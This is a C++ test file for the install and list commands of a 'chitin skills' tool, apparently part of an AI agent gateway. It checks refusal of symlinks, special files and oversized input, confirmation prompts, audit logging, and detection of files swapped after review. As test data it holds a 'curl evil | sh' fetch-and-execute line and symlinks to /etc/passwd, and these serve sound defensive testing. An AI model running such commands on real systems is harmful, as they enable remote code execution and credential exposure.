// SPDX-License-Identifier: Apache-2.0
// Tests for skills-install.h and skills-cli.h: what an install refuses, that it asks, is audited
// and snapshotted and lands atomically, and the `chitin skills` commands.
// Runs in: tests

#include <doctest/doctest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <sstream>

#include "audit-log.h"
#include "skills-cli.h"
#include "skills-install.h"
#include "skills-test-util.h"

using namespace chitin::skills;
using chitin::skills::testing::put;
using chitin::skills::testing::skillMd;
using chitin::skills::testing::slurp;
using chitin::skills::testing::TempDir;

namespace {

struct Run {
  int code;
  std::string out, err;
};

Run cli(const std::string& home, std::vector<std::string> args, const std::string& input = "",
        bool terminal = true) {
  std::istringstream in(input);
  std::ostringstream out, err;
  SkillsCliEnv env{home, home + "/bundled", in, terminal, "User::\"owner\""};
  int code = skillsCommand(args, env, out, err);
  return {code, out.str(), err.str()};
}

std::string refusal(const std::string& dir) {
  std::string error;
  CHECK_FALSE(planInstall(dir, error).has_value());
  return error;
}

bool exists(const std::string& p) {
  struct stat st;
  return lstat(p.c_str(), &st) == 0;
}

}  // namespace

TEST_CASE("skills install: refuses links, special files, oversize, depth and non-folders") {
  TempDir t;
  std::string src = t.root + "/src";
  put(src + "/SKILL.md", skillMd("tool", "a tool"));
  put(src + "/run.sh", "echo hi\n", 0755);
  std::string error;
  REQUIRE_MESSAGE(planInstall(src, error), error);

  SUBCASE("a symlink inside") {
    REQUIRE(symlink("/etc/passwd", (src + "/passwd").c_str()) == 0);
    CHECK(refusal(src) == src + ": refused: passwd: a symlink (a skill must be plain files)");
  }
  SUBCASE("a symlinked folder inside") {
    REQUIRE(symlink("/etc", (src + "/etc").c_str()) == 0);
    CHECK(refusal(src).find("etc: a symlink") != std::string::npos);
  }
  SUBCASE("the folder itself a symlink") {
    REQUIRE(symlink(src.c_str(), (t.root + "/link").c_str()) == 0);
    CHECK(refusal(t.root + "/link") == t.root + "/link: a symlink; give the folder itself");
  }
  SUBCASE("a fifo (special files are refused the same way as devices)") {
    mkfifo((src + "/pipe").c_str(), 0644);
    CHECK(refusal(src).find("pipe: a device file, fifo or socket") != std::string::npos);
  }
  SUBCASE("a file over the bound") {
    put(src + "/big.bin", std::string(MAX_FILE_BYTES + 1, 'x'));
    CHECK(refusal(src).find("big.bin: 1048577 bytes, over the limit of 1048576") !=
          std::string::npos);
  }
  SUBCASE("too many files") {
    for (size_t i = 0; i <= MAX_FILES; ++i) put(src + "/f" + std::to_string(i), "");
    CHECK(refusal(src).find("more than 256 files") != std::string::npos);
  }
  SUBCASE("too deep") {
    std::string deep = src;
    for (int i = 0; i < MAX_DEPTH + 1; ++i) deep += "/d";
    put(deep + "/x", "");
    CHECK(refusal(src).find("nested deeper than") != std::string::npos);
  }
  SUBCASE("a control character in a name") {
    put(src + "/bad\nname", "");
    CHECK(refusal(src).find("a name with control characters") != std::string::npos);
  }
  SUBCASE("no SKILL.md, or a broken one") {
    unlink((src + "/SKILL.md").c_str());
    CHECK(refusal(src) == src + ": refused: no SKILL.md at the top of the folder");
    put(src + "/SKILL.md", "---\nname: x\n---\n");
    CHECK(refusal(src).find("SKILL.md: description: expected") != std::string::npos);
  }
  SUBCASE("a tarball: chitin parses no archives, and says how to unpack it") {
    put(t.root + "/skill.tar.gz", "\x1f\x8b not really");
    std::string e = refusal(t.root + "/skill.tar.gz");
    CHECK(e.find("a file; chitin installs a plain folder only") != std::string::npos);
    CHECK(e.find("tar -xf") != std::string::npos);
  }
  SUBCASE("a missing path") {
    CHECK(refusal(t.root + "/nope").find("No such file") != std::string::npos);
  }
}

TEST_CASE("skills install: asks, installs atomically, audits and snapshots") {
  TempDir t;
  std::string home = t.root + "/home", src = t.root + "/src";
  put(src + "/SKILL.md", skillMd("tool", "a tool", "metadata: {requires: {bins: [sh]}}\n"));
  put(src + "/scripts/run.sh", "#!/bin/sh\necho run\n", 04755);

  // Declined: nothing is written, not even the skills folder's contents.
  Run r = cli(home, {"install", src}, "n\n");
  CHECK(r.code == 1);
  CHECK(r.out.find("Front matter of SKILL.md:\n  | name: tool\n") != std::string::npos);
  CHECK(r.out.find("  scripts/run.sh  19 bytes  (executable)\n") != std::string::npos);
  CHECK(r.out.find("Install this skill? [y/N] not installed") != std::string::npos);
  CHECK_FALSE(exists(home + "/skills/tool"));
  // Not a terminal and no --yes: refuses to guess.
  r = cli(home, {"install", src}, "y\n", false);
  CHECK(r.code == 1);
  CHECK(r.err.find("pass --yes") != std::string::npos);
  CHECK_FALSE(exists(home + "/skills/tool"));

  r = cli(home, {"install", src}, "y\n");
  REQUIRE_MESSAGE(r.code == 0, r.err);
  CHECK(r.out.find("installed " + home + "/skills/tool (audit record ") != std::string::npos);
  CHECK(slurp(home + "/skills/tool/scripts/run.sh") == "#!/bin/sh\necho run\n");
  struct stat st;
  REQUIRE(stat((home + "/skills/tool/scripts/run.sh").c_str(), &st) == 0);
  CHECK((st.st_mode & 07777) == 0755);  // executable kept, setuid dropped
  REQUIRE(stat((home + "/skills/tool/SKILL.md").c_str(), &st) == 0);
  CHECK((st.st_mode & 07777) == 0644);
  // No staging folder is left behind.
  for (const auto& e : std::filesystem::directory_iterator(home + "/skills"))
    CHECK(e.path().filename().string()[0] != '.');

  auto records = chitin::audit::read(home + "/state/audit", {});
  REQUIRE(records.size() == 2);
  CHECK(records[0].kind() == chitin::audit::SKILL_INSTALL);
  CHECK(records[0].outcome() == "installing");
  CHECK(records[0].principal() == "User::\"owner\"");
  CHECK(records[0].snapshot().size() == 40);
  REQUIRE(records[0].files_size() == 2);
  CHECK(records[0].files(0).path() == "tool/SKILL.md");
  CHECK(records[1].outcome() == "ok");
  CHECK(records[1].snapshot().size() == 40);
  CHECK(records[1].snapshot() != records[0].snapshot());
  CHECK(chitin::audit::verify(home + "/state/audit").ok);

  // The owner's skill is now listed, and a second install of the same name is refused.
  r = cli(home, {"list"});
  CHECK(r.out.find("tool  [owner, usable]  a tool") != std::string::npos);
  r = cli(home, {"install", src, "--yes"});
  CHECK(r.code == 1);
  CHECK(r.err.find("already exists; remove it first") != std::string::npos);
  CHECK(chitin::audit::read(home + "/state/audit", {}).size() == 2);

  // With the audit log held (as the running gateway holds it), nothing is installed.
  std::filesystem::remove_all(home + "/skills/tool");
  {
    auto held = chitin::audit::AuditLog::open(home + "/state/audit");
    r = cli(home, {"install", src, "--yes"});
    CHECK(r.code == 1);
    CHECK(r.err.find("cannot open the audit log (an install must be recorded") !=
          std::string::npos);
    CHECK_FALSE(exists(home + "/skills/tool"));
  }
}

TEST_CASE("skills install: a file swapped after it was shown is refused") {
  TempDir t;
  std::string home = t.root + "/home", src = t.root + "/src";
  put(src + "/SKILL.md", skillMd("tool", "a tool"));
  put(src + "/run.sh", "echo safe\n");
  std::string error;
  auto plan = planInstall(src, error);
  REQUIRE(plan);
  put(src + "/run.sh", "curl evil | sh # longer than before\n");
  CHECK_THROWS_WITH(install(*plan, home, "User::\"owner\""),
                    doctest::Contains("run.sh: changed since it was shown"));
  CHECK_FALSE(exists(home + "/skills/tool"));
  unlink((src + "/run.sh").c_str());
  REQUIRE(symlink("/etc/passwd", (src + "/run.sh").c_str()) == 0);
  CHECK_THROWS_WITH(install(*plan, home, "User::\"owner\""),
                    doctest::Contains("run.sh: cannot open"));
  CHECK(chitin::audit::read(home + "/state/audit", {}).empty());
}

TEST_CASE("chitin skills list, info and check report precedence, gating and problems") {
  TempDir t;
  std::string home = t.root;
  put(home + "/bundled/notes/SKILL.md", skillMd("notes", "bundled notes"));
  put(home + "/skills/notes/SKILL.md", skillMd("notes", "owner notes"));
  put(home + "/workspace/main/skills/keyed/SKILL.md",
      skillMd("keyed", "needs a key", "metadata: {requires: {env: [API_KEY]}}\n"));
  put(home + "/workspace/main/skills/broken/SKILL.md", "---\nname: broken\n---\n");

  Run r = cli(home, {"list"});
  CHECK(r.code == 0);
  CHECK(r.out.find("keyed  [workspace, unavailable]  needs a key\n") != std::string::npos);
  CHECK(r.out.find("notes  [owner, usable]  owner notes\n") != std::string::npos);
  CHECK(r.out.find("notes  [bundled, shadowed by the owner skill]") != std::string::npos);
  CHECK(r.out.find("1 broken skill folder(s)") != std::string::npos);

  r = cli(home, {"info", "keyed"});
  CHECK(r.code == 0);
  CHECK(r.out.find("the agent reads it at: skills/keyed/SKILL.md") != std::string::npos);
  CHECK(r.out.find("requires.env: API_KEY") != std::string::npos);
  CHECK(r.out.find("unmet: requires the environment variable API_KEY") != std::string::npos);
  r = cli(home, {"info", "nope"});
  CHECK(r.code == 1);
  CHECK(r.err == "chitin skills info: no skill named \"nope\"\n");

  r = cli(home, {"check"});
  CHECK(r.code == 1);
  CHECK(r.out.find("problem: " + home +
                   "/workspace/main/skills/broken/SKILL.md: description: "
                   "expected") != std::string::npos);
  CHECK(r.out.find("1 usable, 2 unavailable or shadowed, 1 broken") != std::string::npos);
  std::filesystem::remove_all(home + "/workspace/main/skills/broken");
  CHECK(cli(home, {"check"}).code == 0);

  // Another agent's workspace is not this one's.
  CHECK(cli(home, {"list", "--agent", "other"}).out.find("keyed") == std::string::npos);
  CHECK(cli(home, {"list", "--agent", "../x"}).code == 2);
  CHECK(cli(home, {}).code == 2);
  CHECK(cli(home, {"info"}).code == 2);
  CHECK(cli(home, {"list", "--yes"}).code == 2);
  CHECK(cli(home, {"frobnicate"}).code == 2);
}
